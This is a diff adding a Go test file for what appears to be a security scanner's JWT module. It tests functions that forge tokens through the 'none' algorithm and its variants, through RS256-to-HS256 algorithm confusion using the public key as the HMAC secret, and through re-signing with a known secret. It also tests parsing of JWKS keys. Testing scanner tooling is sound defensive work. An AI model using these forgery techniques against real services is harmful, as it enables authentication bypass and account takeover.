@@ -0,0 +1,127 @@
+package tokens
+
+import (
+	"crypto/rand"
+	"crypto/rsa"
+	"encoding/base64"
+	"encoding/json"
+	"math/big"
+	"strings"
+	"testing"
+
+	"github.com/golang-jwt/jwt/v5"
+	"github.com/stretchr/testify/assert"
+)
+
+func generateRSASignedToken(t *testing.T) (string, *rsa.PrivateKey) {
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+	assert.Nil(t, err)
+	original := jwt.NewWithClaims(jwt.SigningMethodRS256, jwt.MapClaims{"sub": "user", "role": "guest", "exp": 4102444800})
+	original.Header["kid"] = "key-1"
+	token, err := original.SignedString(key)
+	assert.Nil(t, err)
+	return token, key
+}
+
+func TestForgeJWTWithNoneAlgorithm(t *testing.T) {
+	token, _ := generateRSASignedToken(t)
+	originalParts := strings.Split(token, ".")
+
+	for _, alg := range GetNoneAlgorithmVariants() {
+		forged, err := ForgeJWTWithNoneAlgorithm(token, alg)
+		assert.Nil(t, err)
+
+		parts := strings.Split(forged, ".")
+		assert.Len(t, parts, 3)
+		assert.Equal(t, originalParts[1], parts[1])
+		assert.Empty(t, parts[2])
+
+		header, _, err := splitJWT(forged)
+		assert.Nil(t, err)
+		assert.Equal(t, alg, header["alg"])
+		assert.Equal(t, "key-1", header["kid"])
+	}
+
+	_, err := ForgeJWTWithNoneAlgorithm("not-a-token", "none")
+	assert.NotNil(t, err)
+}
+
+func TestForgeJWTWithAlgorithmConfusion(t *testing.T) {
+	token, key := generateRSASignedToken(t)
+
+	secrets := GetPublicKeyHMACSecrets(&key.PublicKey)
+	assert.Len(t, secrets, 4)
+	assert.Contains(t, string(secrets[0]), "-----BEGIN PUBLIC KEY-----")
+	assert.True(t, strings.HasSuffix(string(secrets[0]), "\n"))
+	assert.False(t, strings.HasSuffix(string(secrets[1]), "\n"))
+	assert.Contains(t, string(secrets[2]), "-----BEGIN RSA PUBLIC KEY-----")
+
+	for _, secret := range secrets {
+		forged, err := ForgeJWTWithAlgorithmConfusion(token, secret)
+		assert.Nil(t, err)
+		assert.Equal(t, strings.Split(token, ".")[1], strings.Split(forged, ".")[1])
+
+		// A vulnerable server verifies the token using the public key as the HMAC secret
+		parsed, err := jwt.Parse(forged, func(token *jwt.Token) (interface{}, error) {
+			return secret, nil
+		}, jwt.WithValidMethods([]string{"HS256"}))
+		assert.Nil(t, err)
+		assert.True(t, parsed.Valid)
+		assert.Equal(t, "key-1", parsed.Header["kid"])
+		assert.Equal(t, "guest", parsed.Claims.(jwt.MapClaims)["role"])
+	}
+}
+
+func TestParseJWKSRSAKeys(t *testing.T) {
+	_, key := generateRSASignedToken(t)
+	jwks, err := json.Marshal(map[string]interface{}{
+		"keys": []map[string]string{
+			{"kty": "EC", "kid": "ec", "crv": "P-256", "x": "AQ", "y": "AQ"},
+			{
+				"kty": "RSA",
+				"kid": "key-1",
+				"n":   base64.RawURLEncoding.EncodeToString(key.PublicKey.N.Bytes()),
+				"e":   base64.RawURLEncoding.EncodeToString(big.NewInt(int64(key.PublicKey.E)).Bytes()),
+			},
+		},
+	})
+	assert.Nil(t, err)
+
+	keys, err := ParseJWKSRSAKeys(jwks)
+	assert.Nil(t, err)
+	assert.Len(t, keys, 1)
+	assert.True(t, key.PublicKey.Equal(keys[0]))
+
+	_, err = ParseJWKSRSAKeys([]byte("<html></html>"))
+	assert.NotNil(t, err)
+}
+
+func TestForgeJWTWithSecret(t *testing.T) {
+	original := jwt.NewWithClaims(jwt.SigningMethodHS384, jwt.MapClaims{"sub": "user", "exp": 4102444800})
+	token, err := original.SignedString([]byte("secret"))
+	assert.Nil(t, err)
+
+	forged, err := ForgeJWTWithSecret(token, []byte("secret"), "sukyan", "marker")
+	assert.Nil(t, err)
+
+	claims := jwt.MapClaims{}
+	parsed, err := jwt.ParseWithClaims(forged, claims, func(token *jwt.Token) (interface{}, error) {
+		return []byte("secret"), nil
+	}, jwt.WithValidMethods([]string{"HS384"}))
+	assert.Nil(t, err)
+	assert.True(t, parsed.Valid)
+	assert.Equal(t, "marker", claims["sukyan"])
+	assert.Equal(t, "user", claims["sub"])
+	assert.Equal(t, float64(4102444800), claims["exp"])
+
+	rsaToken, _ := generateRSASignedToken(t)
+	_, err = ForgeJWTWithSecret(rsaToken, []byte("secret"), "sukyan", "marker")
+	assert.NotNil(t, err)
+}
+
+func TestGetJWTAlgorithm(t *testing.T) {
+	token, _ := generateRSASignedToken(t)
+	alg, err := GetJWTAlgorithm(token)
+	assert.Nil(t, err)
+	assert.Equal(t, "RS256", alg)
+}